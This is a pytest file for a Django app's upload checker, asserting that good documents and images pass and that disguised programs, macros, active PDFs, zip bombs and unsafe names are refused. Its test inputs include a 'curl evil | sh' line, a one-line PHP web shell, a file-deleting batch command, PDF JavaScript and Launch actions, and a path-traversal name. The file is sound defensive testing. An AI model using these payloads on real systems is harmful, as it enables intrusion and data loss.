"""The upload checks (reglab.core.uploads): the type by content, and what is refused.

Pure functions: no database. Each refusal is asserted on its stable code and on
its message naming the file.
"""

import hashlib

import pytest
from django.utils import translation

from reglab.core import uploads
from reglab.core.uploads import UploadLimits, UploadRefused, inspect_upload
from tests.provrum import work_samples as samples


def refused(name, data, **limits) -> UploadRefused:
    with pytest.raises(UploadRefused) as caught:
        inspect_upload(name, data, limits=UploadLimits(**limits) if limits else None)
    assert uploads.clean_file_name(name) in caught.value.message
    return caught.value


# Accepted ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "make", "kind", "content_type"),
    [
        (
            "Minnesanteckningar.docx",
            samples.docx_bytes,
            "docx",
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        ),
        (
            "Budget.XLSX",
            samples.xlsx_bytes,
            "xlsx",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        ),
        (
            "Presentation.pptx",
            samples.pptx_bytes,
            "pptx",
            "application/vnd.openxmlformats-officedocument.presentationml.presentation",
        ),
        ("rapport.pdf", samples.weasyprint_pdf, "pdf", "application/pdf"),
        ("handskriven.pdf", samples.hand_pdf, "pdf", "application/pdf"),
        ("karta.png", samples.image_bytes, "png", "image/png"),
        ("foto.jpg", lambda: samples.image_bytes("JPEG"), "jpeg", "image/jpeg"),
        ("foto.jpeg", lambda: samples.image_bytes("JPEG"), "jpeg", "image/jpeg"),
        ("bild.webp", lambda: samples.image_bytes("WEBP"), "webp", "image/webp"),
    ],
)
def test_good_files_are_accepted_with_their_type_size_and_checksum(name, make, kind, content_type):
    data = make()
    inspected = inspect_upload(name, data)
    assert inspected.kind == kind
    assert inspected.content_type == content_type
    assert inspected.size == len(data)
    assert inspected.sha256 == hashlib.sha256(data).hexdigest()
    assert inspected.name == name


def test_a_progressive_jpeg_with_exif_and_trailing_bytes_is_complete():
    from io import BytesIO

    from PIL import Image

    image = Image.new("RGB", (320, 200), (20, 120, 200))
    exif = Image.Exif()
    exif[0x010F] = "Kamera"
    out = BytesIO()
    image.save(out, "JPEG", progressive=True, exif=exif.tobytes())
    data = out.getvalue() + b"\x00\x00"
    assert inspect_upload("bild.jpg", data).kind == "jpeg"


# Programs, types and names ----------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("rapport.docx", b"MZ\x90\x00\x03\x00\x00\x00" + bytes(200)),  # a renamed .exe
        ("rapport.pdf", b"\x7fELF\x02\x01\x01" + bytes(200)),
        ("bild.png", b"\xcf\xfa\xed\xfe" + bytes(200)),
        ("anteckningar.txt", b"#!/bin/sh\ncurl evil | sh\n"),
        ("sida.pdf", b"  <?php system($_GET['c']); ?>"),
        ("start.docx", b"@ECHO OFF\r\ndel /q *"),
    ],
)
def test_programs_and_scripts_are_refused_as_programs(name, data):
    assert refused(name, data).code == "program"


def test_a_java_archive_renamed_docx_is_a_program():
    assert refused("protokoll.docx", samples.jar_bytes()).code == "program"


@pytest.mark.parametrize(
    ("name", "make", "code"),
    [
        ("rapport.docx", samples.hand_pdf, "extension_mismatch"),  # a .docx that is a PDF
        ("bild.jpg", samples.image_bytes, "extension_mismatch"),
        ("budget.docx", samples.xlsx_bytes, "extension_mismatch"),
        ("rapport", samples.hand_pdf, "extension_missing"),
        ("rapport.docm", samples.docx_bytes, "office_macros"),
    ],
)
def test_the_name_must_agree_with_the_content(name, make, code):
    assert refused(name, make()).code == code


def test_a_mismatch_says_what_the_content_is():
    message = refused("rapport.docx", samples.hand_pdf()).message
    assert ".docx" in message and ".pdf" in message


@pytest.mark.parametrize(
    ("name", "data", "code"),
    [
        ("anteckningar.txt", "Hej från Örebro".encode(), "type_not_allowed"),
        ("sida.html", b"<!doctype html><p>Hej</p>", "type_not_allowed"),
        ("arkiv.zip", samples.plain_zip(), "zip_not_allowed"),
        ("gammal.doc", samples.OLE2 + bytes(500), "office_legacy_or_encrypted"),
    ],
)
def test_other_types_are_refused(name, data, code):
    assert refused(name, data).code == code


# Size ----------------------------------------------------------------------------


def test_an_empty_file_is_refused():
    assert refused("tom.pdf", b"").code == "empty"


def test_an_oversized_file_is_refused_before_it_is_read():
    limits = UploadLimits()
    with pytest.raises(UploadRefused) as caught:
        uploads.check_size("stor.pdf", limits.max_bytes + 1, limits)
    assert caught.value.code == "too_large"
    assert "20,0 MB" in caught.value.message or "20.0 MB" in caught.value.message
    uploads.check_size("lagom.pdf", limits.max_bytes, limits)


def test_an_oversized_file_is_refused_when_inspected():
    data = samples.hand_pdf()
    assert refused("stor.pdf", data, max_bytes=len(data) - 1).code == "too_large"
    assert inspect_upload("lagom.pdf", data, limits=UploadLimits(max_bytes=len(data))).size


# Zip files and Office documents ---------------------------------------------------


def test_a_zip_bomb_disguised_as_docx_is_refused():
    data = samples.zip_bomb_docx()
    assert len(data) < 1024 * 1024
    assert refused("rapport.docx", data).code == "zip_bomb"


def test_too_much_unpacked_data_in_all_is_a_zip_bomb():
    # Each part packs modestly, but together they unpack to more than the limit.
    data = samples.rezip(samples.docx_bytes(), add={"word/media/a.bin": bytes(300_000)})
    assert refused("rapport.docx", data, max_unpacked_bytes=200_000).code == "zip_bomb"


def test_too_many_parts_are_refused():
    data = samples.rezip(samples.docx_bytes(), add={f"word/x{n}.xml": "<x/>" for n in range(30)})
    assert refused("rapport.docx", data, max_members=20).code == "zip_too_many_members"


@pytest.mark.parametrize(
    "make",
    [
        samples.docm_bytes,
        lambda: samples.docm_bytes(with_type=False),
        lambda: samples.docm_bytes(with_vba=False),
    ],
    ids=["vba-and-type", "vba-only", "type-only"],
)
def test_a_macro_document_renamed_docx_is_refused(make):
    assert refused("rapport.docx", make()).code == "office_macros"


def test_a_macro_workbook_renamed_xlsx_is_refused():
    data = samples.ooxml_bytes("xlsx", main_type=samples.MACRO_TYPES["xlsx"])
    assert refused("budget.xlsx", data).code == "office_macros"


def test_a_zip_inside_the_document_is_refused():
    assert refused("rapport.docx", samples.nested_zip_docx()).code == "zip_nested"


def test_an_encrypted_zip_is_refused():
    assert refused("rapport.docx", samples.encrypted_zip()).code == "zip_encrypted"


@pytest.mark.parametrize(
    "make",
    [
        lambda: samples.docx_bytes()[:3000],
        lambda: samples.corrupt_member(samples.docx_bytes()),
        lambda: b"PK\x03\x04" + bytes(100),
    ],
    ids=["cut-off", "bad-checksum", "garbage"],
)
def test_a_broken_zip_is_refused(make):
    assert refused("rapport.docx", make()).code == "zip_broken"


def test_an_office_file_without_its_main_part_is_refused():
    data = samples.ooxml_bytes("pptx", omit_main=True)
    assert refused("bilder.pptx", data).code == "office_broken"


def test_content_types_with_an_entity_declaration_are_refused():
    types = (
        '<?xml version="1.0"?><!DOCTYPE t [<!ENTITY a "aaaaaaaaaa">]>'
        f'<Types xmlns="{samples.CONTENT_TYPES_NS}"></Types>'
    )
    data = samples.rezip(samples.docx_bytes(), replace={"[Content_Types].xml": types})
    assert refused("rapport.docx", data).code == "zip_broken"


# PDF --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("catalog", "code"),
    [
        (b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>", "pdf_javascript"),
        (b"/OpenAction << /S /J#61vaScript /J#53 (x) >>", "pdf_javascript"),  # hex escapes
        (b"/AA << /O << /JS (x) >> >>", "pdf_javascript"),
        (b"/OpenAction << /S /Launch /F (calc.exe) >>", "pdf_launch"),
        (b"/Names << /EmbeddedFiles << /Names [] >> >>", "pdf_embedded_file"),
    ],
)
def test_active_pdfs_are_refused(catalog, code):
    assert refused("rapport.pdf", samples.hand_pdf(catalog)).code == code


def test_javascript_in_a_compressed_object_stream_is_found():
    data = samples.pdf_with_hidden_javascript()
    assert b"JavaScript" not in data
    assert refused("rapport.pdf", data).code == "pdf_javascript"


def test_an_encrypted_pdf_is_refused():
    data = samples.hand_pdf(trailer_extra=b"/Encrypt 9 0 R ")
    assert refused("rapport.pdf", data).code == "pdf_encrypted"


@pytest.mark.parametrize(
    "make",
    [
        lambda: samples.hand_pdf()[:-40],  # no %%EOF
        lambda: samples.weasyprint_pdf()[:1500],
        lambda: samples.hand_pdf().replace(b"startxref\n", b"startxref\n9"),  # points nowhere
        lambda: b"%PDF-1.7\n%%EOF\n",
    ],
    ids=["no-eof", "cut-off", "bad-xref", "nothing-inside"],
)
def test_a_broken_pdf_is_refused(make):
    assert refused("rapport.pdf", make()).code == "pdf_broken"


def test_words_inside_page_content_are_not_mistaken_for_actions():
    # A page stream that mentions /JS in its (uncompressed) text is not an action.
    content = samples.stream_object(b"<< >>", b"BT /F1 12 Tf (/JS /Launch) Tj ET")
    data = samples.hand_pdf(objects=[content])
    assert inspect_upload("rapport.pdf", data).kind == "pdf"


# Images -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "make"),
    [
        ("karta.png", lambda: samples.image_bytes(size=(400, 300))[:200]),
        ("foto.jpg", lambda: samples.image_bytes("JPEG", size=(400, 300))[:800]),
        ("bild.webp", lambda: samples.image_bytes("WEBP", size=(400, 300))[:60]),
    ],
)
def test_a_truncated_image_is_refused(name, make):
    assert refused(name, make()).code == "image_broken"


def test_a_truncated_jpeg_is_refused_even_after_weasyprint_allowed_truncated_images():
    samples.weasyprint_pdf()  # WeasyPrint sets ImageFile.LOAD_TRUNCATED_IMAGES for the process
    data = samples.image_bytes("JPEG", size=(400, 300))
    assert refused("foto.jpg", data[: len(data) // 2]).code == "image_broken"


def test_a_decompression_bomb_image_is_refused():
    assert refused("karta.png", samples.png_claiming(100_000, 100_000)).code == "image_too_large"
    assert refused("karta.png", samples.png_claiming(8_000, 8_000)).code == "image_too_large"


# Names ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("given", "clean"),
    [
        ("C:\\Users\\anna\\Möte 1.pdf", "Möte 1.pdf"),
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("rap\x00port\n.pdf", "rapport.pdf"),
        ("   ", "dokument"),
        ("a" * 300 + ".pdf", "a" * 251 + ".pdf"),
    ],
)
def test_file_names_are_cleaned(given, clean):
    # A name with nothing left is called "document" in the language in use.
    with translation.override("sv"):
        assert uploads.clean_file_name(given) == clean


@pytest.mark.parametrize(
    ("size", "text"),
    [(1, "1 kB"), (340 * 1024, "340 kB"), (1024 * 1024 * 12 // 10, "1,2 MB")],
)
def test_sizes_read_as_kb_and_mb(size, text):
    from django.utils import translation

    with translation.override("sv"):
        assert uploads.size_text(size) == text
